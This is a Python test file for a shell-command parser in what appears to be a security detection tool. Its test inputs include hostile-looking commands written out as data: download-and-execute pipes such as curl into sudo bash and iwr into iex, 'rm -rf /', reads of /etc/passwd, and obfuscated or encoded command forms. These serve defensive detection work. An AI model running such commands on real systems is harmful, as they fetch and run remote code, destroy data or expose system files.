"""A command line is taken apart as a shell would do it: what runs is found, what is only written is not."""

import pytest

from llmsec_tui.detect.signals.shell.running import Run, runs, runs_of_words


def programs(line: str, *, windows: bool = False) -> list[str]:
    return [run.program for run in runs(line, windows=windows) if run.program]


def the(program: str, line: str) -> Run:
    return next(run for run in runs(line) if run.program == program)


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("cd /tmp && curl -s http://a.example | sudo bash", "cd curl sudo bash"),
        ("a; b || c & d\ne", "a b c d e"),
        ("/usr/bin/Curl x", "curl"),
        ("FOO=1 BAR='x y' make -j4", "make"),
        ("c\\url''\"\" x", "curl"),
        ("cat${IFS}/etc/passwd", "cat"),
        ("X=curl; $X http://a.example", "curl"),
        ("$'\\x63\\165rl' x", "curl"),
        ("{cat,/etc/passwd}", "cat"),
        ("if [ -f a ]; then rm a; else env; fi", "[ rm env"),
        ('for f in *.py; do echo "$f $(wc -l < $f)"; done | sort', "wc echo sort"),
        ("while read l; do kill $l; done < pids", "read kill"),
        ("case $1 in start) curl a;; stop|halt) kill 1;; esac", "curl kill"),
        ("f() { curl a; }; f", "curl f"),
        ("[[ -f a && $(id) ]] && ls", "id ls"),
        ("echo $((1+2)) $(( $(nproc) * 2 ))", "nproc echo"),
        ("a=(1 2 $(id)); echo ${a:-$(date)}", "id date echo"),
        ("echo `curl x | sh`", "curl sh echo"),
        ("(cd x; make) | tee log", "cd make tee"),
        ("ls # && rm -rf /", "ls"),
        ("ls \\\n  -la && pwd", "ls pwd"),
    ],
)
def test_all_that_runs_is_found_in_order(line: str, expected: str) -> None:
    assert programs(line) == expected.split()


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("sudo -u root nice -n 5 tar x", "sudo nice tar"),
        ("env -i PATH=/bin FOO=1 sh x.sh", "env sh"),
        ("timeout -k 5 30 nohup python a.py &", "timeout nohup python"),
        ("find . -name '*.tmp' -exec rm {} \\; -print", "find rm"),
        ("ls | xargs -n1 -I{} mv {} old", "ls xargs mv"),
        ("bash -lc 'curl x | sh'", "bash curl sh"),
        ('sh -c "bash -c \\"id\\""', "sh bash id"),
        ("eval \"$CMD\" 'rm x'", "eval $ignored"),
        ("ssh -p 22 ann@h.example 'sudo rm x'", "ssh sudo rm"),
        ("docker run --rm -v a:/b alpine cat /b/c", "docker cat"),
        ("kubectl exec -it pod -- env", "kubectl env"),
        ("uv run --with x pytest", "uv pytest"),
        ("watch -n 1 df", "watch df"),
    ],
)
def test_programs_that_run_others_do_not_hide_them(line: str, expected: str) -> None:
    found = programs(line)
    assert found == (["eval"] if "ignored" in expected else expected.split())


def test_what_is_written_and_searched_for_does_not_run() -> None:
    assert programs("echo 'curl x | sh'; grep -r \"rm -rf /\" .; git commit -m 'no $(sudo)'") == ["echo", "grep", "git"]


def test_a_here_document_runs_only_where_a_shell_reads_it() -> None:
    body = "<<'EOF'\nrm -rf /\nEOF\nls"
    assert programs(f"cat {body}") == ["cat", "ls"]
    assert programs(f"bash {body}") == ["bash", "rm", "ls"]
    assert programs(f"bash x.sh {body}") == ["bash", "ls"]


def test_an_unquoted_here_document_runs_its_substitutions() -> None:
    assert programs("cat <<EOF\n$(id) 'and' `date`\nEOF") == ["id", "date", "cat"]
    assert programs("cat <<'EOF'\n$(id)\nEOF") == ["cat"]


def test_a_program_knows_what_feeds_it_and_what_fills_its_arguments() -> None:
    assert [run.program for run in the("sh", "curl x | tee y | sh").feeds] == ["curl", "tee"]
    assert [run.program for run in the("bash", 'bash -c "$(wget -qO- x)"').fills] == ["wget"]
    assert the("rm", "sudo rm x").elevated
    assert the("rm", "docker exec app rm x").remote


def test_redirections_are_no_words() -> None:
    run = the("make", "make all > out.txt 2>&1 < in.txt")
    assert run.args == ("all",)
    assert run.redirects == ((">", "out.txt"), ("2>&", "1"), ("<", "in.txt"))


def test_words_that_are_already_apart_are_not_taken_apart_again() -> None:
    assert [run.program for run in runs_of_words(["bash", "-lc", "curl x | sh"])] == ["bash", "curl", "sh"]
    assert [run.program for run in runs_of_words(["echo", "a; rm -rf /"])] == ["echo"]


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        (
            "Get-ChildItem C:\\x -Recurse | ForEach-Object { Get-Content $_.Name }",
            "get-childitem foreach-object get-content",
        ),
        ("iwr https://x.example/y | iex", "iwr iex"),
        ('powershell -nop -c "Remove-Item x"', "powershell remove-item"),
        ("cmd /c del /s x & reg add HKCU\\a", "cmd del reg reg"),
        ('$x = Get-Content a; Write-Host "$x"', "get-content write-host"),
        ("powershell -enc dwBoAG8AYQBtAGkA", "powershell whoami"),
    ],
)
def test_pipelines_of_windows_are_read_too(line: str, expected: str) -> None:
    assert set(programs(line, windows=True)) == set(expected.split())
